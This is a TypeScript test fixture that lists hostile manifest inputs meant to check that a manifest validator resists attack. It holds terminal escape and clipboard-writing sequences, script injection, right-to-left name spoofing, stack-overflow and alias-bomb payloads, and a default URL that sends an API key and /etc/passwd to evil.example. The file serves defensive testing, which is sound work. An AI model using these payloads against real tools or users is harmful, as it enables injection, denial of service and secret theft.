import type { HostileClass } from '../hostile-input.js';
import { manifest } from './written-files.js';

const lines = (count: number, line: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => `${line(index)}\n`).join('');

/** Attack classes 9 and 13, and 23 and 26 for whoever reads a stranger's manifest. */
export const manifests: HostileClass = {
  title: 'manifests of strangers',
  inputs: [
    manifest(
      'names that a terminal obeys and a page runs',
      'a check quotes them, and prints a line that looks like its own verdict (kicksecure stdisplay; MISP CVE-2026-94372)',
      {
        root: 'x-a: 1\n"\\e[2J": <script>alert(1)</script>\n"a\\n0 errors\\r": 2\n',
        commands:
          '    - name: "a\\e]52;c;eA==\\a\\nintegration.yml:1:1 nothing to report"\n      description: "\u202egnp.exe ![x](https://evil.example/x)"\n',
      },
      /\\u001b\[2J.*\n.*"a\\n0 errors\\r"/,
    ),
    manifest(
      'a broken line that a terminal obeys',
      'the excerpt in the error is the attack',
      { root: 'x-a: [\u009b2J, \u202e, "\u0007' },
      /YM101.*\\u009b2J, \\u202e/,
    ),
    manifest(
      'the name of a command, a million words long',
      'a rule that matches it with a repeated group overflows the stack (three million words ended in "Unexpected error" before)',
      { commands: `    - {name: ${'a-'.repeat(900_000)}!, description: It., arguments: [], outputs: []}\n` },
      /MF301/,
    ),
    manifest(
      'the path of an output, a million parts long',
      'the same for a path (three million parts ended in "Unexpected error" before)',
      {
        commands: `    - {name: a, arguments: [], outputs: [{contextPath: "${'a.'.repeat(900_000)}!", type: String}]}\n`,
      },
      /MF306/,
    ),
    manifest(
      'half a megabyte of a name, shown for each of its outputs',
      'every message writes all of it before it is cut (failed before: the program that used the library died)',
      { commands: `    - {name: ${'n'.repeat(500_000)}, outputs: [${'{},'.repeat(30_000)}]}\n` },
      /IN115/,
    ),
    manifest(
      'unknown keys by the thousand',
      'each is compared with every known one',
      { root: lines(24_000, (index) => `descriptiom${index}: 1`) },
      /500 warnings/,
    ),
    manifest(
      'unknown keys by the hundred thousand, by alias',
      'written once, reported for each command (1.8 million took 12 s of processor time before)',
      {
        commands: `    - &c\n      name: a\n${lines(300, (index) => `      descr${index}: 1`)}${'    - *c\n'.repeat(640)}`,
      },
      /500 errors/,
    ),
    manifest(
      'defaults that refer to secrets',
      'a default is the stranger’s text: followed, it sends the key to a server of his choice',
      {
        root: 'configuration:\n- {name: url, display: Url, type: 0, required: false, defaultvalue: "https://evil.example/${env:VMRAY_API_KEY}/${file:/etc/passwd}"}\n',
      },
      /nothing to report|warning/,
    ),
  ],
};
